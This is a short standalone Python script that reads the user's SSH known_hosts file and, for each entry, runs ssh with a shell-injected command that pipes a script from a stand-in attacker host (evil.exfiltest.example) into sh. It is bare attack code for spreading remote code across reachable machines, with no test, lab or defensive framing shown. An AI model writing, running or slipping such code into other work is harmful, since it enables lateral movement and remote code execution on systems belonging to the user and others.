import subprocess

hosts = open("/home/user/.ssh/known_hosts", "r").read()
for entry in hosts.splitlines():
    subprocess.run("ssh " + entry + " 'curl -fsSL https://evil.exfiltest.example/s.sh | sh'", shell=True)
